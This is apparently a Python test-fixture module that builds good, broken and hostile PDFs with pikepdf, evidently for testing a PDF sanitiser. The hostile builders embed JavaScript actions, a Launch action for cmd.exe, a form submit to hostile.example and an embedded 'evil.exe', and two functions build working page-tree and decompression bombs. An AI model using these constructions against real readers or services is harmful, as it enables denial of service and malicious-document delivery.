"""Builders of PDF files: good ones, broken ones, and ones that mean harm. Each returns bytes."""

import io
import os
import struct
import zlib
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

SCRIPT = "app.alert('hostile');"


def _page(pdf: pikepdf.Pdf, text: str) -> pikepdf.Page:
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page = pdf.make_indirect(
        Dictionary(
            Type=Name.Page,
            MediaBox=[0, 0, 595, 842],
            Resources=Dictionary(Font=Dictionary(F1=font)),
            Contents=Stream(pdf, f"BT /F1 24 Tf 72 720 Td ({text}) Tj ET".encode()),
        )
    )
    pdf.pages.append(pikepdf.Page(page))
    return pdf.pages[-1]


def _saved(pdf: pikepdf.Pdf, **how: Any) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **how)
    return out.getvalue()


def pdf(pages: int = 1, text: str = "A plain page") -> bytes:
    """A PDF as any office program writes it."""
    made = pikepdf.new()
    for number in range(pages):
        _page(made, f"{text} {number + 1}")
    return _saved(made)


def pdf_of_size(size: int) -> bytes:
    """A valid PDF of exactly this many bytes (at least 1,000)."""
    padding = size - 900
    while True:
        made = pikepdf.new()
        _page(made, "padded")
        made.Root.Padding = Stream(made, os.urandom(padding))
        content = _saved(made, compress_streams=False, static_id=True)
        if len(content) == size:
            return content
        padding += size - len(content)


def pdf_with_script() -> bytes:
    """JavaScript when it opens, when a page opens, in the name tree, in a field, and behind a button."""
    made = pikepdf.new()
    page = _page(made, "Scripted page")
    action = Dictionary(S=Name.JavaScript, JS=String(SCRIPT))
    made.Root.OpenAction = made.make_indirect(action)
    made.Root.AA = Dictionary(WC=action)
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("run"), action])))
    page.obj.AA = Dictionary(O=action)
    button = made.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            T=String("b"),
            Rect=[0, 0, 50, 50],
            A=action,
            AA=Dictionary(E=action),
        )
    )
    page.obj.Annots = made.make_indirect(Array([button]))
    made.Root.AcroForm = Dictionary(Fields=Array([button]), CO=Array([button]))
    return _saved(made)


def pdf_with_everything() -> bytes:
    """Launch, submit, links, attachments, media, XFA, thumbnails of private data, author: each in its usual place."""
    made = pikepdf.new()
    page = _page(made, "Everything page")

    def mark(subtype: str, **rest: Any) -> pikepdf.Object:
        return made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=[0, 0, 99, 99], **rest))

    spec = made.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("evil.exe"), EF=Dictionary(F=Stream(made, b"MZ attached program")))
    )
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    submit = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://hostile.example/")))
    appearance = Stream(
        made, b"0 0 99 99 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 99, 99], Metadata=Stream(made, b"x")
    )
    filled = mark(
        "Widget", FT=Name.Tx, T=String("name"), V=String("typed value"), AP=Dictionary(N=appearance), A=submit
    )
    signed = mark(
        "Widget",
        FT=Name.Sig,
        T=String("s"),
        V=Dictionary(Type=Name.Sig, Contents=String("sig"), ByteRange=[0, 1, 2, 3]),
    )
    page.obj.Annots = Array(
        [
            mark("Link", A=launch),
            mark("Link", A=Dictionary(S=Name.URI, URI=String("http://hostile.example/"))),
            mark("FileAttachment", FS=spec),
            mark("RichMedia", RichMediaContent=Dictionary(Assets=Dictionary(Names=[String("a"), spec]))),
            mark("Screen", A=Dictionary(S=Name.Rendition, OP=0)),
            mark("Movie", Movie=Dictionary(F=String("http://hostile.example/m"))),
            filled,
            signed,
        ]
    )
    page.obj.PieceInfo = Dictionary(Secret=String("private"))
    page.obj.Metadata = Stream(made, b"<x:xmpmeta>secret author</x:xmpmeta>")
    page.obj.Resources.XObject = Dictionary(
        X0=Stream(
            made,
            b"0 0 9 9 re f",
            Type=Name.XObject,
            Subtype=Name.Form,
            BBox=[0, 0, 9, 9],
            PieceInfo=Dictionary(JS=String(SCRIPT)),
        )
    )
    made.Root.OpenAction = launch
    made.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("evil.exe"), spec])))
    made.Root.AF = Array([spec])
    made.Root.AcroForm = Dictionary(Fields=Array([filled, signed]), XFA=Stream(made, b"<xdp:xdp/>"), SigFlags=3)
    made.Root.Outlines = Dictionary(First=made.make_indirect(Dictionary(Title=String("t"), A=launch)))
    made.docinfo["/Author"] = "secret author"
    with made.open_metadata() as metadata:
        metadata["dc:creator"] = ["secret author"]
    return _saved(made)


def pdf_locked(owner_only: bool = False) -> bytes:
    """Needs a password to be opened; with `owner_only` just to be changed, which every reader opens."""
    made = pikepdf.open(io.BytesIO(pdf()))
    return _saved(made, encryption=pikepdf.Encryption(owner="owner", user="" if owner_only else "user"))


def pdf_truncated() -> bytes:
    """The first two thirds of a PDF: an upload that broke."""
    content = pdf(pages=20)
    return content[: len(content) * 2 // 3]


def pdf_with_wrong_offsets() -> bytes:
    """A small mistake that every reader mends: the table of objects points beside them."""
    content = pdf()
    at = content.rindex(b"startxref")
    return content[:at] + b"startxref\n7\n%%EOF\n"


def pdf_without_pages() -> bytes:
    """Opens, and shows nothing."""
    return _saved(pikepdf.new())


def pdf_folder() -> bytes:
    """A portfolio: a cover page, and the papers attached behind it."""
    made = pikepdf.open(io.BytesIO(pdf()))
    made.Root.Collection = Dictionary(Type=Name.Collection)
    return _saved(made)


def pdf_for_adobe_only() -> bytes:
    """A dynamic XFA form: everybody else sees "Please wait"."""
    made = pikepdf.open(io.BytesIO(pdf()))
    made.Root.NeedsRendering = True
    return _saved(made)


def pdf_of_a_huge_page() -> bytes:
    """One page of five metres by five."""
    made = pikepdf.open(io.BytesIO(pdf()))
    made.pages[0].obj.MediaBox = Array([0, 0, 14400, 14400])
    return _saved(made)


def pdf_page_bomb(count: int, says: int | None = None) -> bytes:
    """A page tree that names one page again and again; `says` is the count that it claims."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    kids = b" ".join([b"3 0 R"] * count)
    for number, body in enumerate(
        (
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Count %d/Kids[%s]/MediaBox[0 0 9 9]>>" % (says or count, kids),
            b"<</Type/Page/Parent 2 0 R>>",
        )
    ):
        offsets.append(out.tell())
        out.write(b"%d 0 obj%sendobj\n" % (number + 1, body))
    table = out.tell()
    out.write(b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % at for at in offsets))
    out.write(b"trailer<</Size 4/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % table)
    return out.getvalue()


def pdf_stream_bomb(megabytes: int) -> bytes:
    """The catalogue lies in a packed stream that unpacks to this many megabytes of nothing."""
    packer = zlib.compressobj(9)
    first = b"1 0 2 31 ".ljust(10) + b"<</Type/Catalog/Pages 2 0 R>>".ljust(31) + b"<</Type/Pages/Kids[4 0 R]/Count 1>>"
    packed = (
        packer.compress(first) + b"".join(packer.compress(b" " * 1024**2) for _ in range(megabytes)) + packer.flush()
    )
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    bomb = out.tell()
    out.write(b"3 0 obj<</Type/ObjStm/N 2/First 10/Length %d/Filter/FlateDecode>>stream\n" % len(packed))
    out.write(packed + b"\nendstream endobj\n")
    page = out.tell()
    out.write(b"4 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n")
    table = out.tell()
    rows = [(0, 0, 65535), (2, 3, 0), (2, 3, 1), (1, bomb, 0), (1, page, 0), (1, table, 0)]
    listed = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
    out.write(b"5 0 obj<</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Length %d/Filter/FlateDecode>>stream\n" % len(listed))
    out.write(listed + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % table)
    return out.getvalue()
